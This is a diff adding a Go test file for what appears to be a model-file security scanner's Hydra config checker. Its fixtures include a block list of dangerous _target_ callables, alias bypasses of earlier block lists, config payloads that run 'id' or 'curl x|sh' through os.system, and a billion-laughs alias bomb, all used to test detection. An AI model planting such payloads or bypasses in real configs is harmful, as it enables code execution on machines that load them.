@@ -1,0 +1,157 @@
+package hydra_test
+
+import (
+	"os"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelvet/modelvet/formats"
+	_ "github.com/modelvet/modelvet/formats/all"
+	"github.com/modelvet/modelvet/formats/formatstest"
+	"github.com/modelvet/modelvet/formats/hydra"
+)
+
+func TestJudge(t *testing.T) {
+	cases := []struct {
+		name, target string
+		want         hydra.Verdict
+	}{
+		{"nemo conformer encoder", "nemo.collections.asr.modules.ConformerEncoder", hydra.Safe},
+		{"torch layer", "torch.nn.Linear", hydra.Safe},
+		{"torch optimizer", "torch.optim.AdamW", hydra.Safe},
+		{"megatron activation function", "torch.nn.functional.gelu", hydra.Safe},
+		{"transformers config class", "transformers.LlamaConfig", hydra.Safe},
+		{"lightning callback", "lightning.pytorch.callbacks.ModelCheckpoint", hydra.Safe},
+		{"os.system", "os.system", hydra.Dangerous},
+		{"subprocess.Popen", "subprocess.Popen", hydra.Dangerous},
+		{"subprocess.check_output", "subprocess.check_output", hydra.Dangerous},
+		{"builtins.eval", "builtins.eval", hydra.Dangerous},
+		{"builtins.exec", "builtins.exec", hydra.Dangerous},
+		{"bare eval", "eval", hydra.Dangerous},
+		{"timeit bypass of hydra 1.3.4 blocklist", "timeit.timeit", hydra.Dangerous},
+		{"os.path alias of os", "os.path.os.system", hydra.Dangerous},
+		{"posixpath alias of os", "posixpath.os.system", hydra.Dangerous},
+		{"ntpath alias of os", "ntpath.os.system", hydra.Dangerous},
+		{"operator.methodcaller gadget", "operator.methodcaller", hydra.Dangerous},
+		{"private alias tempfile._os", "tempfile._os.system", hydra.Dangerous},
+		{"module re-export in a safe package", "torch.nn.modules.module.os.system", hydra.Dangerous},
+		{"nemo path reaching subprocess", "nemo.collections.asr.parts.utils.subprocess.run", hydra.Dangerous},
+		{"pickle loader", "pickle.loads", hydra.Dangerous},
+		{"torch.load", "torch.load", hydra.Dangerous},
+		{"importlib", "importlib.import_module", hydra.Dangerous},
+		{"hydra re-entry", "hydra.utils.instantiate", hydra.Dangerous},
+		{"runpy", "runpy.run_path", hydra.Dangerous},
+		{"webbrowser", "webbrowser.open", hydra.Dangerous},
+		{"socket", "socket.create_connection", hydra.Dangerous},
+		{"shutil", "shutil.rmtree", hydra.Dangerous},
+		{"classmethod that fetches models", "transformers.AutoModel.from_pretrained", hydra.Unknown},
+		{"nemo restore_from loads another archive", "nemo.collections.asr.models.ASRModel.restore_from", hydra.Unknown},
+		{"third-party class", "mypkg.models.Net", hydra.Unknown},
+		{"dunder in a safe package", "torch.nn.Linear.__init__", hydra.Dangerous},
+		{"private module in a safe package", "torch.nn._Private", hydra.Unknown},
+		{"interpolated target", "${oc.env:TARGET}", hydra.Computed},
+		{"relative interpolation", "${..cls}", hydra.Computed},
+	}
+	o := formats.DefaultOptions()
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if got := hydra.Judge(c.target, &o); got != c.want {
+				t.Errorf("Judge(%q) = %v, want %v", c.target, got, c.want)
+			}
+		})
+	}
+}
+
+func TestYAMLConfigs(t *testing.T) {
+	cases := []struct {
+		name, file, src string
+		want            []string // rules at high or above
+	}{
+		{"nemo os.system target", "model_config.yaml", "encoder:\n  _target_: os.system\n  command: id\n", []string{"hydra/dangerous-target"}},
+		{"CVE-2025-23304 alias bypass", "model_config.yaml", "preprocessor:\n  _target_: posixpath.os.system\n  _args_: [\"curl x|sh\"]\n", []string{"hydra/dangerous-target"}},
+		{"partial timeit", "config.yaml", "cb:\n  _target_: timeit.timeit\n  _partial_: true\n  stmt: __import__('os').system('id')\n", []string{"hydra/dangerous-target"}},
+		{"nested under a list", "config.yml", "layers:\n  - _target_: torch.nn.Linear\n  - _target_: builtins.exec\n    _args_: ['import os']\n", []string{"hydra/dangerous-target"}},
+		{"target through an anchor", "config.yaml", "base: &b\n  _target_: subprocess.call\nmodel:\n  <<: *b\n", []string{"hydra/dangerous-target"}},
+		{"target value through an alias", "config.yaml", "t: &t os.system\nm:\n  _target_: *t\n", []string{"hydra/dangerous-target"}},
+		{"escaped key", "config.yaml", "m:\n  \"\\x5ftarget_\": os.system\n", []string{"hydra/dangerous-target"}},
+		{"unknown class", "config.yaml", "m:\n  _target_: evil_pkg.Loader\n", []string{"hydra/unknown-target"}},
+		{"computed target", "config.yaml", "m:\n  _target_: ${oc.env:CLS}\n", []string{"hydra/computed-target"}},
+		{"duplicate target key", "config.yaml", "m:\n  _target_: torch.nn.Linear\n  _target_: os.system\n", []string{"hydra/dangerous-target", "hydra/duplicate-key"}},
+		{"lightning class_path", "config.yaml", "trainer:\n  callbacks:\n    - class_path: os.system\n      init_args: {command: id}\n", []string{"hydra/dangerous-target"}},
+		{"two documents", "config.yaml", "m:\n  _target_: torch.nn.Linear\n---\nm:\n  _target_: os.system\n", []string{"hydra/ambiguous-config", "hydra/dangerous-target"}},
+		{"unparsable with target", "config.yaml", "m:\n  _target_: [os.system\n", []string{"hydra/unparsable-config"}},
+		{"alias bomb", "config.yaml", aliasBomb(), nil},
+		{"plain yaml without targets", "labels.yaml", "names:\n  0: cat\n  1: dog\n", nil},
+		{"safe targets", "config.yaml", "m:\n  _target_: torch.nn.Sequential\n  _args_:\n    - _target_: torch.nn.ReLU\n", nil},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			r := formatstest.ScanBytes(t, c.file, []byte(c.src), nil)
+			got := formatstest.Rules(r, formats.High)
+			slices.Sort(got)
+			got = slices.Compact(got)
+			want := append([]string(nil), c.want...)
+			slices.Sort(want)
+			if !slices.Equal(got, want) {
+				t.Errorf("rules = %v, want %v\n%s", got, want, formatstest.Describe(r))
+			}
+		})
+	}
+}
+
+// aliasBomb is a billion-laughs document: nine levels of nine aliases.
+func aliasBomb() string {
+	var b strings.Builder
+	b.WriteString("a0: &a0 [x, x, x, x, x, x, x, x, x]\n")
+	for i := 1; i < 9; i++ {
+		b.WriteString("a" + string(rune('0'+i)) + ": &a" + string(rune('0'+i)) + " [")
+		for j := 0; j < 9; j++ {
+			if j > 0 {
+				b.WriteString(", ")
+			}
+			b.WriteString("*a" + string(rune('0'+i-1)))
+		}
+		b.WriteString("]\n")
+	}
+	return b.String()
+}
+
+// TestRealShapedConfigs: configs shaped like published ones stay clean.
+func TestRealShapedConfigs(t *testing.T) {
+	data, err := os.ReadFile("testdata/conformer_ctc_model_config.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := formatstest.ScanBytes(t, "model_config.yaml", data, nil)
+	if got := formatstest.Rules(r, formats.Low); len(got) != 0 {
+		t.Errorf("NeMo conformer config: %v\n%s", got, formatstest.Describe(r))
+	}
+	hf := `{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096, "target_modules": ["q_proj"], "torch_dtype": "bfloat16"}`
+	r = formatstest.ScanBytes(t, "config.json", []byte(hf), nil)
+	if got := formatstest.Rules(r, formats.Low); len(got) != 0 {
+		t.Errorf("HF config: %v\n%s", got, formatstest.Describe(r))
+	}
+}
+
+func TestJSONConfigs(t *testing.T) {
+	cases := []struct {
+		name, src string
+		want      []string
+	}{
+		{"HF config.json with a _target_", `{"model_type": "x", "head": {"_target_": "os.system", "command": "id"}}`, []string{"hydra/dangerous-target"}},
+		{"escaped key", `{"m": {"\u005ftarget_": "subprocess.run"}}`, []string{"hydra/dangerous-target"}},
+		{"unknown", `{"m": {"_target_": "acme.Model"}}`, []string{"hydra/unknown-target"}},
+		{"safe", `{"m": {"_target_": "torch.nn.Linear", "in_features": 4}}`, nil},
+		{"vocabulary key named _target_ is data", `{"vocab": {"_target_": 17}}`, nil},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			r := formatstest.ScanBytes(t, "config.json", []byte(c.src), nil)
+			got := formatstest.Rules(r, formats.High)
+			if !slices.Equal(got, c.want) {
+				t.Errorf("rules = %v, want %v\n%s", got, c.want, formatstest.Describe(r))
+			}
+		})
+	}
+}
